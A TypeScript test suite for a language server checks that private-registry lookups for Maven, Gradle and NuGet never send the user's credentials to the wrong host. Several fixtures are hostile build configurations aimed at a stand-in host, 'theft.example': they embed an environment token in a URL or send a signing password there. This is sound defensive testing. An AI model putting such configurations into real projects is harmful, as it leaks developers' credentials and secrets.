import assert from 'node:assert/strict';
import type { ServerResponse } from 'node:http';
import { after, test } from 'node:test';
import type { Hover } from 'vscode-languageserver';
import { fileUri } from '../../../server/src/engine/base/uri.ts';
import { positionsIn } from '../../../server/src/engine/formats/text/positions.ts';
import { hostName, selfSigned } from '../../harness/certificate.ts';
import { startServiceForFile } from '../../harness/file-service.ts';
import { startLsp } from '../../harness/lsp-client.ts';
import { folderWith } from '../../terminal/program.ts';
import { type Recorded, startRecorder } from './recorder.ts';

/*
 * What the real server sends to repositories of Maven and Gradle and to feeds of NuGet, and what it shows of the answers.
 * Every host but this machine is behind a proxy that writes all requests down.
 */

/** One configuration of a workspace, beside that of the person in `home`. */
interface Shape {
  readonly title: string;
  /** The file that is opened first. Names of private packages contain `secret`. */
  readonly files: Readonly<Record<string, string>>;
  /** Each host that must be asked, with what it is sent, and no other. */
  readonly asked: readonly string[];
  /** Parts of the hover of the private package. */
  readonly hover: readonly string[];
}

const basic = (text: string): string => `Basic ${Buffer.from(text).toString('base64')}`;
const repository = (id: string, url: string): string => `<repository><id>${id}</id><url>${url}</url></repository>`;
const server = (id: string, password: string): string =>
  `<server><id>${id}</id><username>anna</username><password>${password}</password></server>`;
const pom = (...repositories: readonly string[]): string =>
  `<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>a</artifactId><version>1</version>
<dependencies><dependency><groupId>com.acme</groupId><artifactId>secret-core</artifactId><version>1.0.0</version></dependency></dependencies>
<repositories>${repositories.join('')}</repositories></project>`;
const script = (repositories: string): string =>
  `dependencies { implementation 'com.acme:secret-core:1.0.0' }\nrepositories { ${repositories} }\n`;
const project = '<Project><ItemGroup><PackageReference Include="Acme.Secret" Version="1.0.0" /></ItemGroup></Project>';
const source = (key: string, address: string, more = ''): string =>
  `<configuration><packageSources><clear /><add key="${key}" value="${address}" /></packageSources>${more}</configuration>`;
const login = (key: string, password: string): string =>
  `<${key}><add key="Username" value="anna" /><add key="ClearTextPassword" value="${password}" /></${key}>`;

const home: Readonly<Record<string, string>> = {
  '.m2/settings.xml': `<settings><servers>${server('acme', 'of-settings')}${server('variable', '$'.concat('{env.SECRET_TOKEN}'))}
${server('sealed', '{COQLCE6DU6GtcS5P=}')}${server('company', 'of-company')}${server('bare', 'of-bare')}${server('mirror', 'of-mirror')}</servers>
<mirrors><mirror><id>mirror</id><url>https://mirror.acme.example/m</url><mirrorOf>mirrored</mirrorOf></mirror></mirrors>
<profiles><profile><id>p</id>${'<pluginRepositories>'}<pluginRepository><id>company</id><url>https://company.acme.example</url></pluginRepository></pluginRepositories></profile>
<profile><id>names</id><repositories>${repository('acme', 'https://repo.acme.example/maven')}${repository('variable', 'https://variable.acme.example')}</repositories></profile></profiles>
<activeProfiles><activeProfile>p</activeProfile></activeProfiles></settings>`,
  '.gradle/gradle.properties':
    'acmeUsername=anna\nacmePassword=of-gradle\nbareUsername=anna\nbarePassword=of-bare\nsigningPassword=never\n',
  '.gradle/init.gradle':
    "allprojects { repositories { maven { name 'acme'; url 'https://gradle.acme.example/m'; credentials(PasswordCredentials) } } }",
  '.nuget/NuGet/NuGet.Config': `<configuration><packageSources><add key="acme" value="https://feed.acme.example/v3/index.json" />
<add key="away" value="https://away.acme.example/v3/index.json" /></packageSources>
<packageSourceCredentials>${['acme', 'away', 'bare'].map((it) => login(it, '%SECRET_TOKEN%')).join('')}</packageSourceCredentials></configuration>`,
};

const shapes: readonly Shape[] = [
  {
    title: "a repository of the POM with the credential of the person's settings",
    files: { 'pom.xml': pom(repository('acme', 'https://repo.acme.example/maven')) },
    asked: [`repo.acme.example ${basic('anna:of-settings')}`],
    hover: ['Apache-2.0', 'repo.acme.example'],
  },
  {
    title: 'a credential that is a variable of the person',
    files: { 'pom.xml': pom(repository('variable', 'https://variable.acme.example')) },
    asked: [`variable.acme.example ${basic('anna:token-of-variable')}`],
    hover: ['Apache-2.0'],
  },
  {
    title: 'a mirror in place of a repository',
    files: { 'pom.xml': pom(repository('mirrored', 'https://never.acme.example')) },
    asked: [`mirror.acme.example ${basic('anna:of-mirror')}`],
    hover: ['Apache-2.0', 'mirror.acme.example'],
  },
  {
    title: 'two repositories, of which one has the package',
    files: {
      'pom.xml': pom(
        repository('none', 'https://empty.acme.example'),
        repository('acme', 'https://repo.acme.example/maven'),
      ),
    },
    asked: ['empty.acme.example', `repo.acme.example ${basic('anna:of-settings')}`],
    hover: ['Apache-2.0'],
  },
  {
    title: 'a password that is encrypted',
    files: { 'pom.xml': pom(repository('sealed', 'https://sealed.acme.example')) },
    asked: [],
    hover: ['~/.m2/settings.xml'],
  },
  {
    title: 'a repository that takes the credential of another host',
    files: { 'pom.xml': pom(repository('company', 'https://theft.example/maven')) },
    asked: [],
    hover: ['~/.m2/settings.xml'],
  },
  {
    title: 'a repository whose id has a credential of the person, but no address',
    files: { 'pom.xml': pom(repository('bare', 'https://theft.example/maven')) },
    asked: [],
    hover: ['<repository> <id>bare</id>', '~/.m2/settings.xml'],
  },
  {
    title: 'a repository of Gradle whose name has a credential of the person, but no address',
    files: {
      'build.gradle': script(
        "maven { name = 'bare'; url = 'https://theft.example'; credentials(PasswordCredentials) }",
      ),
    },
    asked: [],
    hover: ['name = "bare"', '~/.gradle/init.gradle'],
  },
  {
    title: 'a feed of NuGet whose key has a credential of the person, but no address',
    files: { 'app.csproj': project, 'nuget.config': source('bare', 'https://theft.example/v3/index.json') },
    asked: [],
    hover: ['<add key="bare"', 'NuGet.Config'],
  },
  {
    title: 'a variable in an address of a POM',
    files: { 'pom.xml': pom(repository('acme', 'https://${env.SECRET_TOKEN}.theft.example')) },
    asked: [],
    hover: ['SECRET_TOKEN'],
  },
  {
    title: 'a repository over plain http, which Maven blocks',
    files: { 'pom.xml': pom(repository('open', 'http://open.acme.example')) },
    asked: [],
    hover: ['Not looked up'],
  },
  {
    title: 'a repository of Gradle by its name',
    files: {
      'build.gradle': script(
        "maven { name = 'acme'; url = 'https://gradle.acme.example/m'; credentials(PasswordCredentials) }",
      ),
    },
    asked: [`gradle.acme.example ${basic('anna:of-gradle')}`],
    hover: ['Apache-2.0'],
  },
  {
    title: 'a repository of Gradle with a password in its script',
    files: {
      'build.gradle': script(
        "maven { url 'https://script.acme.example'; credentials { username 'tom'; password 'open' } }",
      ),
    },
    asked: [`script.acme.example ${basic('tom:open')}`],
    hover: ['Apache-2.0'],
  },
  {
    title: 'a script that sends another property',
    files: {
      'build.gradle': script(
        "maven { url 'https://theft.example'; credentials { username 'x'; password findProperty('signingPassword') } }",
      ),
    },
    asked: [],
    hover: ['signingPassword'],
  },
  {
    title: 'a feed of NuGet with the credential of its key',
    files: { 'app.csproj': project, 'nuget.config': source('acme', 'https://feed.acme.example/v3/index.json') },
    asked: [`feed.acme.example ${basic('anna:token-of-variable')}`],
    hover: ['MIT', 'feed.acme.example'],
  },
  {
    title: 'a feed of NuGet that leads to another host',
    files: { 'app.csproj': project, 'nuget.config': source('away', 'https://away.acme.example/v3/index.json') },
    asked: [`away.acme.example ${basic('anna:token-of-variable')}`, 'cdn.acme.example'],
    hover: ['MIT'],
  },
  {
    title: 'a variable in a feed of the workspace',
    files: {
      'app.csproj': project,
      'nuget.config': source(
        'own',
        'https://own.acme.example/v3/index.json',
        `<packageSourceCredentials>${login('own', '%SECRET_TOKEN%')}</packageSourceCredentials>`,
      ),
    },
    asked: [],
    hover: ['SECRET_TOKEN'],
  },
];

const files: Readonly<Record<string, string>> = {
  'maven-metadata.xml':
    '<metadata><versioning><versions><version>1.0.0</version><version>1.1.0</version></versions></versioning></metadata>',
  'secret-core-1.0.0.pom':
    '<project><licenses><license><name>The Apache Software License, Version 2.0</name></license></licenses></project>',
};

function answer({ host, path }: Recorded, response: ServerResponse): void {
  const name = path.split('/').at(-1) ?? '';
  const text =
    path === '/v3/index.json'
      ? JSON.stringify({
          resources: [
            {
              '@type': 'RegistrationsBaseUrl/3.6.0',
              '@id': host === 'away.acme.example' ? 'https://cdn.acme.example/r/' : '/r/',
            },
          ],
        })
      : path === '/r/acme.secret/index.json'
        ? JSON.stringify({ items: [{ items: [{ catalogEntry: { version: '1.0.0', licenseExpression: 'MIT' } }] }] })
        : files[name];
  const isThere = text !== undefined && host !== 'empty.acme.example';
  response.writeHead(isThere ? 200 : 404).end(isThere ? text : '');
}

const service = await startServiceForFile({
  'MAVEN junit:junit': { versions: ['4.13.2'] },
  'NUGET newtonsoft.json': { versions: ['13.0.3'] },
});
const certificate = selfSigned('feeds', ['*.acme.example', 'theft.example', '*.theft.example'].map(hostName));
const upstream = await startRecorder(certificate, answer);
const folder = folderWith({
  'ca.pem': certificate.cert,
  ...Object.fromEntries(Object.entries(home).map(([path, text]) => [`home/${path}`, text])),
  ...Object.fromEntries(
    shapes.flatMap((it, at) => Object.entries(it.files).map(([path, text]) => [`work/shape${at}/${path}`, text])),
  ),
});
const root = fileUri(`${folder.path}/work`);
const client = await startLsp({
  folder: root,
  person: {
    HOME: `${folder.path}/home`,
    USERPROFILE: `${folder.path}/home`,
    NODE_EXTRA_CA_CERTS: `${folder.path}/ca.pem`,
    HTTP_PROXY: upstream.url,
    HTTPS_PROXY: upstream.url,
    NO_PROXY: new URL(service.url).host,
    SECRET_TOKEN: 'token-of-variable',
  },
  capabilities: { textDocument: { hover: {} } },
  settings: { baseUrl: service.url, privateRegistries: 'ask' },
});

after(async () => {
  await client.stop();
  await upstream.close();
  folder.remove();
});

for (const [at, shape] of shapes.entries()) {
  test(shape.title, async () => {
    const from = upstream.recorded.length;
    const shown = await hoverOf(shape, at);
    for (const it of shape.hover) assert.ok(shown.includes(it), shown);
    const all = upstream.recorded.map((it) => [it.host, it.authorization].filter(Boolean).join(' '));
    for (const it of shape.asked) assert.ok(all.includes(it), `${it} is not asked`);
    // Shapes before this one may still ask about other versions.
    const known = new Set(shapes.slice(0, at + 1).flatMap((it) => it.asked));
    assert.deepEqual(
      all.slice(from).filter((it) => !known.has(it)),
      [],
    );
    for (const { path, body } of service.requests) assert.doesNotMatch(decodeURIComponent(path + body), /secret/i);
  });
}

/** The hover of the private package of a shape, once it has its answer. */
async function hoverOf({ files }: Shape, at: number): Promise<string> {
  const [[name, text] = ['', '']] = Object.entries(files);
  const uri = `${root}/shape${at}/${name}`;
  await client.open(uri, text);
  const position = positionsIn(text).at(text.search(/secret/i) + 1);
  for (;;) {
    const hover = await client.connection.sendRequest<Hover | null>('textDocument/hover', {
      textDocument: { uri },
      position,
    });
    const contents =
      hover && typeof hover.contents === 'object' && 'value' in hover.contents ? hover.contents.value : '';
    const shown = contents.replace(/\\(.)/g, '$1');
    if (!shown.includes('Requesting')) return shown;
  }
}
